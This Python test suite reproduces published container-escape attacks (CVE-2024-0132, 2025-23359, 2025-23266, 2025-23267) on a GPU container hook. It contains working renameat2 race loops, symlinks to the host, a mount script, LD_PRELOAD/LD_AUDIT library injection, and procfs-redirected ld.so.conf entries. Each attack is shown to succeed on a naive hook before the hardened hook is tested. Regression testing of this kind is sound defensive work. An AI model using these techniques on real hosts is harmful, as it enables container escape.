#!/usr/bin/env python3
"""The published attacks on container hooks of this kind, each first shown to succeed against a naive hook."""

from __future__ import annotations

import ctypes
import multiprocessing
import os
import shutil
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import naive_hook
from hook_case import DRIVER_FOLDER, HOOK, PIECES, HookCase, Said, add_driver, in_own_mounts, make_debian_root, run_tests, said_by

AT_FDCWD = -100
RENAME_EXCHANGE = 2
NAIVE = Path(naive_hook.__file__)


def exchange_for_ever(first: bytes, second: bytes, beat: ctypes.c_ulong) -> None:
    libc = ctypes.CDLL(None)
    while True:
        libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE)
        beat.value += 1


@contextmanager
def racing(first: Path, second: Path) -> Iterator[None]:
    """While it lasts, somebody exchanges the two names as fast as the kernel allows."""
    beat = multiprocessing.Value("L", 0, lock=False)
    attacker = multiprocessing.Process(target=exchange_for_ever, args=(bytes(first), bytes(second), beat), daemon=True)
    attacker.start()
    deadline = time.monotonic() + 30
    while beat.value < 1000 and time.monotonic() < deadline:
        time.sleep(0.001)
    before = beat.value
    try:
        yield
    finally:
        after = beat.value
        attacker.kill()
        attacker.join()
    if after - before < 1000:
        raise AssertionError(f"the attacker made only {after - before} exchanges: nothing was tried")


class Cve20240132(HookCase):
    """CVE-2024-0132: a folder of the image is exchanged with a link to the host between the check and the use."""

    LINKS = 40

    def setUp(self) -> None:
        super().setUp()
        self.folder = self.rootfs / "usr/lib/nvidia"
        self.folder.mkdir(parents=True)
        self.evil = self.link("usr/lib/evil", self.host)

    def test_cve_2024_0132_a_naive_hook_writes_outside(self) -> None:
        deadline = time.monotonic() + 60
        number = 0
        with racing(self.folder, self.evil):
            while not self.host_entries() and time.monotonic() < deadline:
                naive_hook.create_symlinks(self.rootfs, [("x", f"/usr/lib/nvidia/link-{number + i}") for i in range(100)])
                number += 100
        self.assertNotEqual(self.host_entries(), [], "the attack harms nobody: it proves nothing")

    def test_cve_2024_0132_a_racing_rename_leads_no_link_and_no_folder_out(self) -> None:
        made = 0
        with racing(self.folder, self.evil):
            for number in range(60):
                links = [f"--link=x::/usr/lib/nvidia/deep-{number}/link-{i}" for i in range(self.LINKS)]
                made += self.hook("create-symlinks", *links).rc == 0
        self.assertEqual(self.host_entries(), [])
        print(f"  {made} of 60 calls came through", file=sys.stderr)

    def test_cve_2024_0132_a_racing_rename_leads_no_configuration_out(self) -> None:
        etc = self.rootfs / "etc"
        etc.mkdir()
        with racing(etc, self.evil):
            for _ in range(30):
                self.hook("update-ldcache", "--folder", DRIVER_FOLDER)
                self.hook("update-application-profile")
        self.assertEqual(self.host_entries(), [])


class Cve202523359(HookCase):
    """CVE-2025-23359, which went round the repair of the former: the place of a mount is exchanged."""

    SCRIPT = """
        rootfs=$1 host=$2
        mount -t tmpfs tmpfs /proc/driver
        mkdir /proc/driver/nvidia
        echo 'ModifyDeviceFiles: 1' >/proc/driver/nvidia/params
        shift 2
        "$@" || true
        grep -F " $host/" /proc/self/mountinfo || true
    """

    def setUp(self) -> None:
        super().setUp()
        self.write("proc/driver/nvidia/params", "ModifyDeviceFiles: 1\n")
        (self.host / "params").write_text("the host's")
        self.evil = self.link("proc/driver/evil", self.host)

    def mounts_outside(self, *command: object) -> Said:
        with racing(self.rootfs / "proc/driver/nvidia", self.evil):
            return in_own_mounts(self.SCRIPT, self.rootfs, self.host, *command)

    def test_cve_2025_23359_a_naive_hook_mounts_outside(self) -> None:
        source = self.work / "params"
        source.write_text("ModifyDeviceFiles: 0\n")
        for _ in range(10):
            said = self.mounts_outside(sys.executable, NAIVE, "cover-params", self.rootfs, source, 50)
            if said.stdout:
                return
        self.fail("the attack harms nobody: it proves nothing")

    def test_cve_2025_23359_a_racing_rename_leads_no_mount_out(self) -> None:
        calls = 'for i in $(seq 150); do "$1" disable-device-node-modification <<<"$2" 2>/dev/null || true; done'
        said = self.mounts_outside("bash", "-c", calls, "bash", HOOK, self.state)
        self.assertEqual((said.rc, said.stdout), (0, ""), said)
        self.assertEqual((self.host / "params").read_text(), "the host's")

    def test_cve_2025_23359_compatibility_libraries_of_the_host_are_not_used(self) -> None:
        (self.host / "compat").mkdir()
        shutil.copy2(PIECES / "libcuda.so.900.1.0", self.host / "compat/libcuda.so.950.1.0")
        self.link("usr/local/cuda", self.host)
        self.must("enable-cuda-compat", "--host-driver-version=900.1.0")
        self.assertEqual(self.drop_ins("00-compat"), [])


class Cve202523266(HookCase):
    """CVE-2025-23266: the hook is started with the image's environment, in the image's root."""

    def setUp(self) -> None:
        super().setUp()
        make_debian_root(self.rootfs)
        add_driver(self.rootfs)
        shutil.copy2(PIECES / "libhook_preload_library.so", self.rootfs / "evil.so")
        self.trace = self.host / "trace"
        self.env = {
            "LD_PRELOAD": "./evil.so",
            "LD_AUDIT": "./evil.so",
            "LD_LIBRARY_PATH": ".",
            "GLIBC_TUNABLES": "glibc.malloc.check=3",
            "GCONV_PATH": ".",
            "PRELOAD_TRACE": str(self.trace),
        }

    def test_cve_2025_23266_a_dynamic_hook_runs_the_images_code(self) -> None:
        said_by("/bin/true", env=self.env, cwd=self.rootfs)
        self.assertTrue(self.trace.exists(), "the attack harms nobody: it proves nothing")

    def test_cve_2025_23266_no_code_of_the_image_runs_in_the_hook_or_in_ldconfig(self) -> None:
        for words in (
            ["create-symlinks", "--link", "a::/usr/b"],
            ["enable-cuda-compat", "--host-driver-version=900.1.0"],
            ["update-ldcache", "--folder", DRIVER_FOLDER],
            ["chmod", "--mode", "755", "--path", "/usr"],
        ):
            said = self.hook(*words, env=self.env, cwd=self.rootfs)
            self.assertEqual((said.rc, said.stderr), (0, ""), said)
        self.assertFalse(self.trace.exists())
        self.assertFalse((self.rootfs / "preloaded").exists())
        self.assertEqual(self.found_by_linker("libcuda.so.1").rc, 0)


class Cve202523267(HookCase):
    """CVE-2025-23267: update-ldcache follows links of the image, or of a procfs in it, to the host."""

    WITH_PROC = 'mount -t proc proc "$1/proc"; mkdir -p "$1/host/proc"; mount --rbind /proc "$1/host/proc"; shift; "$@"'

    def setUp(self) -> None:
        super().setUp()
        make_debian_root(self.rootfs)
        # A library without its link: ldconfig makes one wherever it is led.
        shutil.copy2(PIECES / "libcuda.so.900.1.0", self.host)
        self.before = self.host_entries()

    def naive(self) -> None:
        in_own_mounts(self.WITH_PROC, self.rootfs, sys.executable, NAIVE, "update-ldcache", self.rootfs, DRIVER_FOLDER)
        self.assertNotEqual(self.host_entries(), self.before, "the attack harms nobody: it proves nothing")

    def ours(self) -> None:
        said = in_own_mounts(self.WITH_PROC, self.rootfs, HOOK, "update-ldcache", "--folder", DRIVER_FOLDER, stdin=self.state)
        self.assertEqual(self.host_entries(), self.before, said)

    def lead_by_drop_ins(self) -> None:
        shutil.rmtree(self.rootfs / "etc/ld.so.conf.d")
        self.link("etc/ld.so.conf.d", self.host)

    def lead_by_proc(self, proc: str) -> None:
        self.write("etc/ld.so.conf", f"{proc}/{os.getpid()}/root{self.host}\n")

    def test_cve_2025_23267_a_naive_hook_writes_through_a_link(self) -> None:
        self.lead_by_drop_ins()
        self.naive()

    def test_cve_2025_23267_a_link_in_place_of_ld_so_conf_d_leads_nowhere(self) -> None:
        self.lead_by_drop_ins()
        self.ours()

    def test_cve_2025_23267_a_naive_hook_is_led_out_by_procfs(self) -> None:
        self.lead_by_proc("/proc")
        self.naive()

    def test_cve_2025_23267_a_procfs_in_the_container_leads_nowhere(self) -> None:
        for proc in ("/proc", "/host/proc"):
            with self.subTest(proc):
                self.lead_by_proc(proc)
                self.ours()

    def test_cve_2025_23267_links_in_place_of_the_files_that_are_written_lead_nowhere(self) -> None:
        victim = self.host / "victim"
        victim.write_text("the host's")
        self.before = self.host_entries()
        for name in ("etc/ld.so.cache", "etc/ld.so.cache~", "etc/ld-musl-x86_64.path", "etc/ld-musl-aarch64.path"):
            self.link(name, victim)
        self.write("etc/alpine-release")
        self.ours()
        self.assertEqual(victim.read_text(), "the host's")

    def test_cve_2025_23267_ldconfig_has_neither_the_hosts_files_nor_its_capabilities(self) -> None:
        """What a program in ldconfig's place sees: it is static, as ldconfig is, and reports to the container's root."""
        source = self.work / "spy.c"
        source.write_text(SPY)
        spy = self.work / "spy"
        self.assertEqual(said_by("cc", "-static", "-o", spy, source, env=dict(os.environ)).rc, 0)
        script = 'mount -t proc proc "$1/proc"; shift; "$@"'
        said = in_own_mounts(script, self.rootfs, HOOK, "update-ldcache", "--ldconfig-path", spy, stdin=self.state)
        self.assertEqual(said.rc, 0, said)
        report = (self.rootfs / "report").read_text()
        # CAP_DAC_OVERRIDE and CAP_FOWNER; the first process; one network device, which is down; an empty /proc; no host.
        self.assertEqual(report, "capabilities 000000000000000a\npid 1\nproc empty\nhost absent\nenvironment empty\nfds 3\n")


SPY = """
#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
extern char** environ;
int main(void) {
    FILE* report = fopen("/report", "w");
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct sets[2];
    syscall(SYS_capget, &header, sets);
    fprintf(report, "capabilities %08x%08x\\n", sets[1].permitted | sets[1].inheritable, sets[0].permitted | sets[0].inheritable);
    fprintf(report, "pid %d\\n", getpid());
    DIR* proc = opendir("/proc");
    int entries = 0;
    while (proc && readdir(proc)) ++entries;
    if (proc) closedir(proc);
    fprintf(report, "proc %s\\n", entries == 2 ? "empty" : "not empty");
    fprintf(report, "host %s\\n", access("/sbin/ldconfig", F_OK) && access("/../sbin/ldconfig", F_OK) ? "absent" : "there");
    fprintf(report, "environment %s\\n", environ[0] ? environ[0] : "empty");
    int open_files = 0;
    for (int fd = 0; fd < 1024; ++fd) open_files += fcntl(fd, F_GETFD) != -1 && fd != fileno(report);
    fprintf(report, "fds %d\\n", open_files);
    return fclose(report);
}
"""

if __name__ == "__main__":
    run_tests()
